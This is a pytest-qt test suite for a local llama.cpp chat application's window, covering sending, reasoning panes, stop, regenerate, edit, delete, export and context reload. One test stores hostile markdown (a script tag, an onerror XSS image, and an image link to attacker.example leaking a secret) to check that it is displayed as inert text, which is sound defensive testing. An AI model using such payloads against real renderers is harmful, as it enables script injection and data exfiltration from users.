"""The chat window driven like a person would, on real llama.cpp with scripted GGUFs."""

from __future__ import annotations

import os
import signal
from pathlib import Path

from PySide6.QtCore import Qt
from pytestqt.qtbot import QtBot

from app.ui.main_window import MainWindow
from tests.ui.conftest import open_window, send

REPLY = "Hello! How can I help?"


def last_widget(window: MainWindow):
    return window.view.widgets[-1]


def test_send_with_thinking_on(qtbot: QtBot, window: MainWindow) -> None:
    # The composer is where typing goes when the window opens (offscreen the window is never active, so
    # hasFocus() cannot say: the window's focus widget can).
    assert window.focusWidget() is window.composer.input
    assert window.composer.think.isChecked()
    send(qtbot, window, "hi")
    w = last_widget(window)
    assert w.answer.toPlainText().strip() == REPLY
    assert w.reasoning is not None and w.reasoning.text() == "The user greets me."
    assert not w.reasoning.expanded  # collapsed once the answer started
    assert w.reasoning.label().startswith("Thought for") and "5 tokens" in w.reasoning.label()
    conv = window.controller.conversation
    stored = window.store.messages(conv.id)
    assert [m.role for m in stored] == ["user", "assistant"]
    assert stored[1].content == REPLY and stored[1].reasoning == "The user greets me."
    assert stored[1].status == "complete" and stored[1].completion_tokens == 15
    assert conv.title == "hi" and window.title.text() == "hi"


def test_send_with_thinking_off(qtbot: QtBot, window: MainWindow) -> None:
    window.composer.think.setChecked(False)
    send(qtbot, window, "hi")
    w = last_widget(window)
    assert w.answer.toPlainText().strip() == REPLY
    assert w.reasoning is None  # non-thinking turns have no pane
    assert window.mode_badge.text() == "Thinking off"
    assert not window.store.get_conversation(window.controller.conversation.id).think


def test_reasoning_streams_expanded_then_collapses(qtbot: QtBot, looping_model: Path) -> None:
    window = open_window(qtbot, looping_model)
    window.composer.budget.setValue(300)  # the budget ends the thinking; then the model answers
    window.composer.input.setPlainText("think hard")
    qtbot.keyClick(window.composer.input, Qt.Key.Key_Return)
    qtbot.waitUntil(lambda: "round" in (last_widget(window).reasoning.text()), timeout=10_000)
    pane = last_widget(window).reasoning
    assert pane.expanded and pane.label().startswith("Thinking…")
    qtbot.waitUntil(lambda: not window.controller.answering, timeout=30_000)
    assert not pane.expanded and "thinking budget reached" in pane.label()
    assert last_widget(window).answer.toPlainText().strip() == REPLY
    # The choice is remembered per message.
    qtbot.mouseClick(pane.header, Qt.MouseButton.LeftButton)
    assert pane.expanded
    msg = window.store.get_message(last_widget(window).message.id)
    assert msg.reasoning_collapsed is False and msg.thinking_budget_hit
    window.close()


def test_stop_mid_answer_keeps_the_partial_answer(qtbot: QtBot, looping_model: Path) -> None:
    window = open_window(qtbot, looping_model)
    window.composer.input.setPlainText("go on forever")
    qtbot.keyClick(window.composer.input, Qt.Key.Key_Return)
    qtbot.waitUntil(lambda: len(last_widget(window).reasoning.text()) > 200, timeout=10_000)
    assert window.composer.send_button.text() == "Stop"
    qtbot.mouseClick(window.composer.send_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: not window.controller.answering, timeout=5_000)
    assert window.composer.send_button.text() == "Send"
    msg = window.store.get_message(last_widget(window).message.id)
    assert msg.status == "cancelled" and len(msg.reasoning) > 200
    assert last_widget(window).status.text() == "Stopped."
    window.close()


def test_regenerate_replaces_the_last_answer(qtbot: QtBot, window: MainWindow) -> None:
    send(qtbot, window, "hi")
    first = last_widget(window)
    first_created = first.message.created_at
    qtbot.mouseClick(first.regenerate_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: not window.controller.answering and last_widget(window) is not first)
    stored = window.store.messages(window.controller.conversation.id)
    assert [m.role for m in stored] == ["user", "assistant"]
    assert stored[1].created_at >= first_created and stored[1].content == REPLY
    assert len(window.view.widgets) == 2 and last_widget(window).answer.toPlainText().strip() == REPLY


def test_edit_and_resend_replaces_later_turns(qtbot: QtBot, window: MainWindow) -> None:
    send(qtbot, window, "first")
    send(qtbot, window, "second")
    first_user = window.view.widgets[0].message.id
    assert window.controller.later_turns(first_user) == 3
    window.controller.edit_and_resend(first_user, "first, edited")
    qtbot.waitUntil(lambda: not window.controller.answering)
    stored = window.store.messages(window.controller.conversation.id)
    assert [(m.role, m.content) for m in stored] == [("user", "first, edited"), ("assistant", REPLY)]
    assert len(window.view.widgets) == 2


def test_think_toggle_survives_restart(qtbot: QtBot, scripted_model: Path) -> None:
    window = open_window(qtbot, scripted_model)
    send(qtbot, window, "hi")
    cid = window.controller.conversation.id
    window.composer.think.setChecked(False)
    window.composer.budget.setValue(0)
    window.close()
    again = open_window(qtbot, None)
    assert again.controller.conversation.id == cid
    assert not again.composer.think.isChecked()
    assert again.conversations.list.currentItem().text().splitlines()[1].startswith("Think off")
    again.close()


def test_hostile_markdown_is_shown_as_text(qtbot: QtBot, window: MainWindow) -> None:
    conv = window.store.create_conversation(title="hostile")
    window.store.add_message(conv.id, "user", "show me")
    evil = (
        "<script>alert(1)</script>\n\n![leak](http://attacker.example/x.png?secret=1)\n\n"
        "<img src=x onerror=alert(1)>"
    )
    window.store.add_message(conv.id, "assistant", evil, status="complete")
    window.refresh_list()
    window.open_conversation(conv.id)
    view = last_widget(window).answer
    html = view.toHtml()
    assert "<img" not in html and "<script" not in html
    assert "<script>alert(1)</script>" in view.toPlainText()
    assert "attacker.example" in html  # as a link the user may click, never fetched


def test_killed_engine_worker_is_an_error_in_the_conversation(qtbot: QtBot, looping_model: Path) -> None:
    window = open_window(qtbot, looping_model)
    window.composer.input.setPlainText("hi")
    qtbot.keyClick(window.composer.input, Qt.Key.Key_Return)
    qtbot.waitUntil(lambda: len(last_widget(window).reasoning.text()) > 50, timeout=10_000)
    os.kill(window.bridge.engine.worker_pid or 0, signal.SIGKILL)
    qtbot.waitUntil(lambda: not window.controller.answering, timeout=10_000)
    w = last_widget(window)
    assert w.error_box.isVisible() and "SIGKILL" in w.error_label.text()
    assert window.isVisible()
    assert window.store.get_message(w.message.id).status == "error"
    window.controller.regenerate(w.message.id)  # Retry: a new worker, the model reloaded
    qtbot.waitUntil(lambda: len(last_widget(window).reasoning.text()) > 50, timeout=20_000)
    window.controller.stop()
    qtbot.waitUntil(lambda: not window.controller.answering, timeout=10_000)
    assert window.store.get_message(last_widget(window).message.id).status == "cancelled"
    window.close()


def test_no_model_error_offers_a_model(qtbot: QtBot) -> None:
    window = open_window(qtbot, None)
    send(qtbot, window, "hi")
    w = last_widget(window)
    assert w.error_box.isVisible() and w.model_button.isVisible()
    assert "No model" in w.error_label.text()
    assert w.reasoning is None or not w.reasoning.isVisible()  # never an empty "Thought" header
    window.close()


def test_an_answer_without_reasoning_has_no_pane(qtbot: QtBot, tmp_path: Path) -> None:
    from app.models.synthetic import Script, write_scripted_gguf

    model = write_scripted_gguf(tmp_path / "direct.gguf", Script(reasoning=()))
    window = open_window(qtbot, model)
    assert window.composer.think.isChecked()
    window.composer.input.setPlainText("hi")
    qtbot.keyClick(window.composer.input, Qt.Key.Key_Return)
    qtbot.waitUntil(lambda: bool(last_widget(window).answer.toPlainText().strip()), timeout=20_000)
    pane = last_widget(window).reasoning
    assert pane is None or not pane.isVisible()  # not "Thinking… 0 s" beside the answer
    qtbot.waitUntil(lambda: not window.controller.answering, timeout=20_000)
    assert pane is None or not pane.isVisible()
    assert last_widget(window).answer.toPlainText().strip() == REPLY
    window.close()


def test_delete_with_undo_and_search(qtbot: QtBot, window: MainWindow) -> None:
    send(qtbot, window, "about tides")
    window.new_conversation()
    send(qtbot, window, "about stars")
    assert len(window.conversations.ids()) == 2
    window.conversations.search.setText("tides")
    assert len(window.conversations.ids()) == 1
    window.conversations.search.setText("")
    victim = window.controller.conversation.id
    window.delete_current()
    assert victim not in window.conversations.ids() and window.undo_button.isVisible()
    qtbot.mouseClick(window.undo_button, Qt.MouseButton.LeftButton)
    assert victim in window.conversations.ids() and window.controller.conversation.id == victim


def test_font_size_and_export(qtbot: QtBot, window: MainWindow, tmp_path: Path) -> None:
    size = window.settings.font_size
    window.apply_font_size(size + 2)
    assert window.view.font().pointSize() == size + 2
    send(qtbot, window, "hi")
    out = tmp_path / "chat.md"
    window.export_to(out)
    text = out.read_text(encoding="utf-8")
    assert REPLY in text and "The user greets me." in text


def test_full_context_offers_a_longer_one_and_answers_after_reloading(
    qtbot: QtBot, scripted_model: Path
) -> None:
    window = open_window(qtbot, None)
    window.controller.load_model(str(scripted_model), n_ctx=512)
    qtbot.waitUntil(lambda: bool(window.bridge.model_path) and not window.bridge.busy, timeout=30_000)
    send(qtbot, window, "word " * 300)  # ~600 tokens: more than 512
    w = last_widget(window)
    assert w.error_box.isVisible() and w.reload_button.isVisible()
    assert w.reload_button.text().startswith("Reload with a 8,192-token context")
    qtbot.mouseClick(w.reload_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: not window.controller.answering and last_widget(window) is not w, timeout=30_000)
    assert last_widget(window).answer.toPlainText().strip() == REPLY
    assert window.bridge.engine.loaded.n_ctx == 8192
    window.close()
